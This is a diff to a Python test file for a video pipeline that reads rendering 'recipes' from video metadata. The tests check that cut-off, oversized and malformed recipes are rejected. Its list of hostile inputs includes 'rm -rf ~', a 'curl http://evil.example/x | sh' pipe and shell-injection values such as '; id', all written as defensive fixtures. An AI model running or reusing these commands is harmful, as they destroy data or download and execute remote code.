@@ -16,10 +16,12 @@ from PIL import Image
 from PIL.PngImagePlugin import PngInfo
 
 from pipeline.catalog import entries, find
+from pipeline.cli.spelling import command
 from pipeline.errors import InputError
 from pipeline.rendering import execute
-from pipeline.rendering.plan import Job, command
+from pipeline.rendering.plan import Job
 from pipeline.rendering.quality import QUALITIES
+from pipeline.requests import LectureRequest
 from pipeline.video.codecs import CODECS
 from pipeline.video.encode import VideoEncoder
 from pipeline.video.recipe import KEY, read, recipe
@@ -27,7 +29,7 @@ from render import cli
 from tests.pipeline.videos import Video
 
 SMALL = replace(QUALITIES["draft"], fps=Fraction(3))
-WORDS = ["render.py", "render", "a 'b' \"c\" $(d)", "한글; #", "√x"]
+ASKED = LectureRequest(file=Path("a 'b' \"c\" $(d) 한글; #√x.toml"), language="ko")
 
 
 def video(path: Path, comment: str, frames: int = 30) -> Path:
@@ -45,7 +47,7 @@ def video(path: Path, comment: str, frames: int = 30) -> Path:
 def test_every_container_keeps_it(suffix: str, length: int, tmp_path: Path) -> None:
     if suffix == "mov" and length > 60_000:
         length = 60_000  # a lecture is an mp4; a mov's own entry has 16 bits for its length
-    told = recipe(WORDS, {"at": [1.0, 2.0], "function": "x" * length})
+    told = recipe(ASKED, {"at": [1.0, 2.0], "function": "x" * length})
     assert read(holding(tmp_path / f"그림 'a'.{suffix}", told.written())) == told
     assert told.versions["manim"].startswith("0.22")
 
@@ -64,27 +66,37 @@ def holding(file: Path, comment: str, frames: int = 3) -> Path:
 @pytest.mark.parametrize("suffix", ["mp4", "mov", "webm", "gif", "png"])
 @pytest.mark.parametrize("share", [0.01, 0.3, 0.6, 0.9])
 def test_a_file_that_is_cut_off(suffix: str, share: float, tmp_path: Path) -> None:
-    file = holding(tmp_path / f"a.{suffix}", recipe(WORDS, {}).written(), 30)
+    file = holding(tmp_path / f"a.{suffix}", recipe(ASKED, {}).written(), 30)
     whole = file.read_bytes()
     file.write_bytes(whole[: int(len(whole) * share)])
     with pytest.raises(InputError, match="cut off"):
         read(file)
 
 
+def changed(**values: Any) -> str:
+    """A recipe with other values in it."""
+    content = json.loads(recipe(ASKED, {}).written())["nabla"]
+    return json.dumps({"nabla": {**content, **values}})
+
+
+CLIP = {"scene": "slicing"}
 STRANGE = [
     "",
     "{",
     "[]",
     '{"nabla": 3}',
-    '{"nabla": {"command": "rm", "made": {}, "versions": {}}}',
-    '{"nabla": {"command": ["rm"], "made": {}, "versions": {}, "more": 1}}',
-    '{"nabla": {"command": [1], "made": {}, "versions": {}}}',
-    '{"nabla": {"command": [], "made": {}, "versions": {"a": "1; rm"}}}',
+    '{"nabla": {"command": ["rm", "-rf", "~"], "made": {}, "versions": {}}}',
+    changed(command=["bash", "-c", "curl http://evil.example/x | sh"]),
+    changed(request="rm"),
+    changed(request={}),
+    changed(request={**CLIP, "shell": "id"}),
+    changed(request={**CLIP, "quality": "; id"}),
+    changed(request={**CLIP, "fps": 10**6}),
+    changed(request={**CLIP, "format": "exe"}),
+    changed(versions={"a": "1; rm"}),
     '{"nabla":' + "[" * 5000,
-    '{"nabla": {"command": [], "versions": {}, "made": ' + '{"a":' * 5000,
-    '{"nabla": {"command": ["x' + "x" * 5000 + '"], "made": {}, "versions": {}}}',
-    '{"nabla": {"command": [' + '"x",' * 200 + '"x"], "made": {}, "versions": {}}}',
-    '{"nabla": {"command": [], "made": {"a": ' + "9" * 50_000 + '}, "versions": {}}}',
+    '{"nabla": {"request": {}, "versions": {}, "made": ' + '{"a":' * 5000,
+    changed()[:-3] + ', "made": {"a": ' + "9" * 50_000 + "}}}",
 ]
 
 
@@ -97,7 +109,7 @@ def test_what_was_not_made_here(comment: str, suffix: str, tmp_path: Path) -> No
 
 @pytest.mark.parametrize("suffix", ["mp4", "webm", "gif"])
 def test_a_comment_of_50_megabytes(suffix: str, tmp_path: Path) -> None:
-    whole = recipe(WORDS, {"a": "x" * 50_000_000}).written()
+    whole = recipe(ASKED, {"a": "x" * 50_000_000}).written()
     file = holding(tmp_path / f"a.{suffix}", whole)
     assert file.stat().st_size > 50_000_000
     with pytest.raises(InputError, match="was not made by Nabla"):
@@ -121,11 +133,9 @@ def test_what_is_no_video(tmp_path: Path) -> None:
             read(path)
 
 
-def told_jobs() -> list[Job]:
-    jobs = [
-        Job(entry, entry.parameters({}), SMALL) for entry in entries() if entry.name != "title_card"
-    ]
-    for name, told in (
+def some_jobs() -> list[Job]:
+    jobs = [Job(entry, {}, SMALL) for entry in entries()]
+    for name, given in (
         ("slicing", {"function": "exp(−x^2) · √(y + 3)"}),
         ("slicing", {"function": " x² *  sin( y ) ", "at": "-1,pi/2", "domain": "-2:2,-1:3"}),
         ("tangent_line", {"function": "x^2", "at": "-1"}),
@@ -134,7 +144,7 @@ def told_jobs() -> list[Job]:
         ("total_differential", {"step": "0.2,-0.1"}),
         ("transformation", {"function": "[x^2-y^2, 2x y]", "at": "1,-0.3"}),
     ):
-        jobs.append(Job(find(name), find(name).parameters(told), SMALL, "ko"))
+        jobs.append(Job(find(name), given, SMALL, "ko"))
     film = {"beat": "plane_to_plane", "format": "mov", "transparent": True}
     return [
         *jobs,
@@ -143,7 +153,7 @@ def told_jobs() -> list[Job]:
     ]
 
 
-@pytest.mark.parametrize("job", told_jobs(), ids=lambda job: shlex.join(command(job)[2:]))
+@pytest.mark.parametrize("job", some_jobs(), ids=lambda job: shlex.join(command(job.request)[2:]))
 def test_the_command_leads_to_the_same_job(
     job: Job, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
@@ -151,8 +161,8 @@ def test_the_command_leads_to_the_same_job(
     found: list[Any] = []
     monkeypatch.chdir(tmp_path)
     monkeypatch.setattr(execute, "render_clips", lambda jobs, *_: found.extend(jobs) or ())
-    program, *words = shlex.split(shlex.join(command(job)))
-    with pytest.raises((SystemExit, KeyError)):
+    program, *words = shlex.split(shlex.join(command(job.request)))
+    with pytest.raises(SystemExit):
         cli.main(words, standalone_mode=False)
     assert program == "render.py"
     assert [replace(each, target=job.target) for each in found] == [job]
@@ -161,15 +171,16 @@ def test_the_command_leads_to_the_same_job(
 def test_the_same_clip_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     from pipeline.rendering.job import render_clip
 
-    entry = find("transformation")
-    given = entry.parameters({"function": "x² − 3 · e^-x"})
-    first = Job(entry, given, SMALL, "ko", beat="machine", target=tmp_path / "first.mp4")
+    given = {"function": "x² − 3 · e^-x"}
+    first = Job(
+        find("transformation"), given, SMALL, "ko", beat="machine", target=tmp_path / "first.mp4"
+    )
     found: list[Job] = []
     monkeypatch.chdir(tmp_path)
     monkeypatch.setattr(execute, "render_clips", lambda jobs, *_: found.extend(jobs) or ())
     known = render_clip(first, lambda beat, frames: None)
-    with pytest.raises((SystemExit, KeyError)):
-        cli.main(read(first.target).command[1:], standalone_mode=False)
+    with pytest.raises(SystemExit):
+        cli.main(command(read(first.target).request)[1:], standalone_mode=False)
     (job,) = found
     again = render_clip(job, lambda beat, frames: None)
     assert Video.read(job.target).hashes() == Video.read(first.target).hashes()
